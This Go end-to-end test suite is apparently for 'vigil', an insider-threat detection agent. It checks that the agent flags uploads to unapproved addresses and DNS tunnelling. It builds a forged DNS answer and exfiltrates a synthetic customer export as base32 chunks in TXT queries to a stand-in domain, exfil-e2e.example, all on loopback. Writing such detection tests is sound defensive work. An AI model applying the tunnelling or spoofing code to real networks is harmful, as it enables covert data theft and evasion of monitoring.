package e2e

// DNS as an insider would use it: a forged answer to name an upload's
// destination after an approved host, and a file sent out in the names of
// DNS queries. A local authoritative server on 127.0.0.1:53 answers dig;
// the agent runs with the shipped pack.

import (
	"encoding/base32"
	"fmt"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/vigilhq/vigil/event"
	"github.com/vigilhq/vigil/internal/testenv"
	"github.com/vigilhq/vigil/internal/testkernel"
	"github.com/vigilhq/vigil/internal/testproc"
)

// dnsValues approve one address range; the suite runs at any hour.
const dnsValues = `values {
  off_shift_queries         = 1000000
  allowed_destination_cidrs = ["10.231.8.0/24", "127.0.0.0/8", "::1/128"]
}
`

func TestVariantsDNS(t *testing.T) {
	testkernel.RequireRoot(t)
	requireTools(t, "dig", "curl", "ip", "useradd")
	srv, err := net.ListenPacket("udp4", "127.0.0.1:53")
	if err != nil {
		testenv.Skipf(t, "needs to serve DNS on 127.0.0.1:53: %v", err)
	}
	defer srv.Close()
	zone := map[string]netip.Addr{"files.vigil-e2e.example": netip.MustParseAddr(unknownAddr)}
	go serveZone(srv, zone)

	rulesDir := testRules(t, dnsValues)
	data := t.TempDir()
	c := startCollector(t, data, testproc.FreePort(t), "--rules", rulesDir, "--host-rules", rulesDir)
	omar, pia, quinn := ensurePerson(t, "vigil-e2e-omar"), ensurePerson(t, "vigil-e2e-pia"), ensurePerson(t, "vigil-e2e-quinn")
	sink := startUploadSink(t, approvedAddr, unknownAddr)
	agent := startAgent(t, c, data, c.NATS, agentOpts{site: "leeds", host: "ws-leeds-09", rulesDir: rulesDir,
		sensors: []string{"process", "file", "net"}})
	r := &incidentRig{c: c, data: data, agent: agent}

	// A forged answer, from port 53 but answering nothing this host asked,
	// says the unknown address is an approved host; the upload that
	// follows is judged by its address.
	t.Run("ForgedAnswerNamesNothing", func(t *testing.T) {
		victim, err := net.ListenPacket("udp4", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		defer victim.Close()
		forged := dnsAnswer(t, 0x4242, "files.corp.example.com", dnsmessage.TypeA, netip.MustParseAddr(unknownAddr))
		if _, err := srv.WriteTo(forged, victim.LocalAddr()); err != nil {
			t.Fatal(err)
		}
		victim.SetReadDeadline(time.Now().Add(5 * time.Second))
		if _, _, err := victim.ReadFrom(make([]byte, 1500)); err != nil {
			t.Fatalf("the forged answer did not arrive: %v", err)
		}
		file := filepath.Join(quinn.home, "accounts.csv")
		if err := os.WriteFile(file, []byte(strings.Repeat("4111111111111111,Jane Doe,12/29\n", 64<<10)), 0o644); err != nil {
			t.Fatal(err)
		}
		sink.upload(t, quinn, unknownAddr, file)
		a := c.awaitAlert(t, "upload_unapproved_destination", quinn.name)
		for _, ev := range evidenceOf(t, a, quinn.name, []event.Kind{event.KindNetTransfer}, event.KindNetTransfer)[event.KindNetTransfer] {
			if ev.Net.DstIP != unknownAddr || ev.Net.DstName != "" {
				t.Errorf("upload %s to %s is named %q", ev.ID, ev.Net.DstIP, ev.Net.DstName)
			}
		}
	})

	// A name the person looked up, answered by the server asked, still
	// names the destination.
	t.Run("RealAnswerNames", func(t *testing.T) {
		out := quinn.run(t, "dig", "@127.0.0.1", "+short", "+tries=1", "+time=3", "files.vigil-e2e.example", "A")
		if strings.TrimSpace(out) != unknownAddr {
			t.Fatalf("dig answered %q", out)
		}
		small := filepath.Join(quinn.home, "notes.txt")
		if err := os.WriteFile(small, []byte("meeting notes\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		sink.upload(t, quinn, unknownAddr, small)
		named := fmt.Sprintf("json_extract(body, '$.net.dst_ip') = '%s' AND json_extract(body, '$.net.dst_name') = 'files.vigil-e2e.example'", unknownAddr)
		testproc.CheckFor(t, 60*time.Second, poll, func() error {
			if storedEvents(t, data, agent.id, event.KindNetTransfer, quinn.name, named) == 0 {
				return fmt.Errorf("no transfer to %s named files.vigil-e2e.example stored", unknownAddr)
			}
			return nil
		})
	})

	// A customer export sent out as TXT queries, base32 in 50-byte labels,
	// one dig process reading them from a batch file.
	t.Run("TunnelledExport", func(t *testing.T) {
		var export strings.Builder
		for id := 1; id <= 150; id++ {
			fmt.Fprintf(&export, "%d,Customer %d,customer%d@example.com\n", id, id, id)
		}
		enc := strings.ToLower(base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString([]byte(export.String())))
		var batch strings.Builder
		n := 0
		for i := 0; i < len(enc); i += 50 {
			fmt.Fprintf(&batch, "@127.0.0.1 +tries=1 +time=3 %s.%d.t.exfil-e2e.example TXT\n", enc[i:min(i+50, len(enc))], n)
			n++
		}
		path := filepath.Join(omar.home, "batch.txt")
		if err := os.WriteFile(path, []byte(batch.String()), 0o644); err != nil {
			t.Fatal(err)
		}
		omar.run(t, "dig", "+short", "-f", path)

		a := c.awaitAlert(t, "dns_tunnel", omar.name)
		if got := a.Event.Alert.Group["dns.domain"]; got != "exfil-e2e.example" {
			t.Errorf("alert group %v, want dns.domain exfil-e2e.example", a.Event.Alert.Group)
		}
		for _, ev := range evidenceOf(t, a, omar.name, []event.Kind{event.KindDNSQuery}, event.KindDNSQuery)[event.KindDNSQuery] {
			if ev.DNS.Domain != "exfil-e2e.example" || ev.DNS.Type != "TXT" || ev.DNS.LongestLabel < 24 ||
				ev.DNS.Server != "127.0.0.1" || ev.Process.Comm != "dig" {
				t.Errorf("evidence %s: %s asked %s %s (domain %s, longest label %d) of %s", ev.ID, ev.Process.Comm,
					ev.DNS.Type, ev.DNS.Name, ev.DNS.Domain, ev.DNS.LongestLabel, ev.DNS.Server)
			}
		}
		t.Logf("%d queries sent; alert: %s", n, a.Event.Alert.Summary)
	})

	// A working day's lookups, page after page: the same hosts again and
	// again, ad frames with hashed names, a CDN's long load-balancer names.
	t.Run("BrowsingIsNotTunnelling", func(t *testing.T) {
		var batch strings.Builder
		for page := range 12 {
			for _, h := range []string{"www.example.com", "static.example.com", "fonts.example.net", "api.example.org",
				"k8s-ingress-prod-0123456789abcdef.elb.example", "login.example.com"} {
				fmt.Fprintf(&batch, "@127.0.0.1 +tries=1 +time=3 %s A\n", h)
			}
			for ad := range 3 {
				fmt.Fprintf(&batch, "@127.0.0.1 +tries=1 +time=3 %032x.safeframe.adsyndication.example A\n", page*3+ad)
			}
		}
		path := filepath.Join(pia.home, "browse.txt")
		if err := os.WriteFile(path, []byte(batch.String()), 0o644); err != nil {
			t.Fatal(err)
		}
		pia.run(t, "dig", "+short", "-f", path)
		r.barrier(t, pia.name, pia.cmd("/bin/true"))
		if n := storedEvents(t, data, agent.id, event.KindDNSQuery, pia.name, ""); n == 0 {
			t.Fatal("no dns.query events stored for the browsing: the agent did not see the lookups")
		}
		r.noAlerts(t, pia.name, "dns_tunnel")
	})
}

// dnsAnswer packs an answer to a query for name giving addr.
func dnsAnswer(t *testing.T, id uint16, name string, typ dnsmessage.Type, addr netip.Addr) []byte {
	t.Helper()
	n := dnsmessage.MustNewName(name + ".")
	m := dnsmessage.Message{
		Header:    dnsmessage.Header{ID: id, Response: true, Authoritative: true},
		Questions: []dnsmessage.Question{{Name: n, Type: typ, Class: dnsmessage.ClassINET}},
		Answers: []dnsmessage.Resource{{
			Header: dnsmessage.ResourceHeader{Name: n, Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET, TTL: 300},
			Body:   &dnsmessage.AResource{A: addr.As4()},
		}},
	}
	b, err := m.Pack()
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// serveZone answers A queries for the names in zone, TXT queries with "ok"
// (as a tunnel's server acknowledges a chunk), anything else with NXDOMAIN.
func serveZone(pc net.PacketConn, zone map[string]netip.Addr) {
	buf := make([]byte, 1500)
	for {
		n, from, err := pc.ReadFrom(buf)
		if err != nil {
			return
		}
		var m dnsmessage.Message
		if err := m.Unpack(buf[:n]); err != nil || len(m.Questions) != 1 || m.Header.Response {
			continue
		}
		q := m.Questions[0]
		m.Header.Response, m.Header.Authoritative = true, true
		rh := dnsmessage.ResourceHeader{Name: q.Name, Type: q.Type, Class: dnsmessage.ClassINET, TTL: 60}
		switch addr, ok := zone[strings.TrimSuffix(strings.ToLower(q.Name.String()), ".")]; {
		case q.Type == dnsmessage.TypeA && ok:
			m.Answers = []dnsmessage.Resource{{Header: rh, Body: &dnsmessage.AResource{A: addr.As4()}}}
		case q.Type == dnsmessage.TypeTXT:
			m.Answers = []dnsmessage.Resource{{Header: rh, Body: &dnsmessage.TXTResource{TXT: []string{"ok"}}}}
		default:
			m.Header.RCode = dnsmessage.RCodeNameError
		}
		if out, err := m.Pack(); err == nil {
			pc.WriteTo(out, from)
		}
	}
}
